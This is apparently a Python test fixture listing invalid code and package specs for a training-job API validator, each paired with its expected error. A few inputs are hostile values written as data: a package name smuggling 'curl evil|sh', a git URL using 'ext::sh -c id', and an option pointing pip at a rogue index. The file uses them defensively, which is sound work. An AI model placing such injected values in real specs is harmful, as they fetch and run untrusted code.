"""Specs whose code or packages no pod could be given, part of the table in bad_specs.py."""

from __future__ import annotations

from typing import Any

from tests.api.changes import bad as _bad

_CODE, _PACKAGES = "training.code", "training.packages"
_PLACE = f"{_CODE}.bundle"


def _code(**bundle: Any) -> dict[str, Any]:
    return {"bundle": {"sha256": "a" * 64, "configMaps": ["a"], **bundle}}


def _url(address: str, **more: Any) -> dict[str, Any]:
    return {"url": {"address": address, "sha256": "a" * 64, **more}}


def _git(repository: str, commit: str = "a" * 40) -> dict[str, Any]:
    return {"git": {"repository": repository, "commit": commit}}


def _image(reference: str) -> dict[str, Any]:
    return {"image": {"reference": reference}}


_S3 = "s3://bucket/code.tar.gz"

CODE = (
    _bad("hash in capitals", _CODE, _code(sha256="A" * 64), "change nothing", at=f"{_PLACE}.sha256"),
    _bad("no hash", _CODE, _code(sha256="a"), "Make it longer", "at least 64", at=f"{_PLACE}.sha256"),
    _bad("no parts", _CODE, _code(configMaps=[]), "is empty", "at least 1", at=f"{_PLACE}.configMaps"),
    _bad("code of nowhere", _CODE, {}, "exactly one of bundle, url, git and image"),
    _bad("code of two places", _CODE, {**_code(), **_url(_S3)}, "exactly one of bundle, url, git and image"),
    _bad("password in a URL", _CODE, _url("https://me:pw@host/a"), "name a Secret", at=f"{_CODE}.url.address"),
    _bad("a bucket alone", _CODE, _url("s3://bucket"), "Write s3://", at=f"{_CODE}.url.address"),
    _bad("a file of another host", _CODE, _url("file://host/a"), "Write s3://", at=f"{_CODE}.url.address"),
    _bad("an endpoint of words", _CODE, _url(_S3, endpoint="minio"), "http://minio", at=f"{_CODE}.url.endpoint"),
    _bad("a hash of a URL", _CODE, _url(_S3, sha256="g" * 64), "sha256sum prints", at=f"{_CODE}.url.sha256"),
    _bad("a Secret's name", _CODE, _url(_S3, secretName="A"), "lower-case", at=f"{_CODE}.url.secretName"),
    _bad("git by ssh", _CODE, _git("git@host:me/a.git"), "https://host/path.git", at=f"{_CODE}.git.repository"),
    _bad("git by a program", _CODE, _git("ext::sh -c id"), "https://host/path.git", at=f"{_CODE}.git.repository"),
    _bad("token in git", _CODE, _git("https://t0ken@host/a"), "secretName", at=f"{_CODE}.git.repository"),
    _bad("a branch", _CODE, _git("https://h/a", "main"), "Make it longer", "at least 40", at=f"{_CODE}.git.commit"),
    _bad("no commit", _CODE, _git("https://h/a", "x" * 40), "git rev-parse HEAD", at=f"{_CODE}.git.commit"),
    _bad("a tag of an image", _CODE, _image("host/code:latest"), "@sha256:", at=f"{_CODE}.image.reference"),
    _bad("no packages", _PACKAGES, {}, "Set names, requirements or both"),
    _bad("a package without version", _PACKAGES, {"names": ["timm"]}, "timm==1.0.19", at=f"{_PACKAGES}.names"),
    _bad("an option", _PACKAGES, {"names": ["--index-url=http://evil"]}, "options", at=f"{_PACKAGES}.names"),
    _bad("a command", _PACKAGES, {"names": ["timm==1;curl evil|sh"]}, "options", at=f"{_PACKAGES}.names"),
    _bad("a second line", _PACKAGES, {"names": ["timm==1\n-e ."]}, "options", at=f"{_PACKAGES}.names"),
    _bad(
        "requirements of the image",
        _PACKAGES,
        {"requirements": "/etc/r"},
        "in the code",
        at=f"{_PACKAGES}.requirements",
    ),
    _bad("an option as file", _PACKAGES, {"requirements": "-r"}, "in the code", at=f"{_PACKAGES}.requirements"),
    _bad("requirements above", _PACKAGES, {"requirements": "../r"}, "in the code", at=f"{_PACKAGES}.requirements"),
    _bad(
        "wheels of nowhere", _PACKAGES, {"names": ["a==1"], "wheels": {}}, "Set exactly one", at=f"{_PACKAGES}.wheels"
    ),
    _bad(
        "wheels here",
        _PACKAGES,
        {"names": ["a==1"], "wheels": {"path": "wheels"}},
        "Begin it with /",
        at=f"{_PACKAGES}.wheels.path",
    ),
)
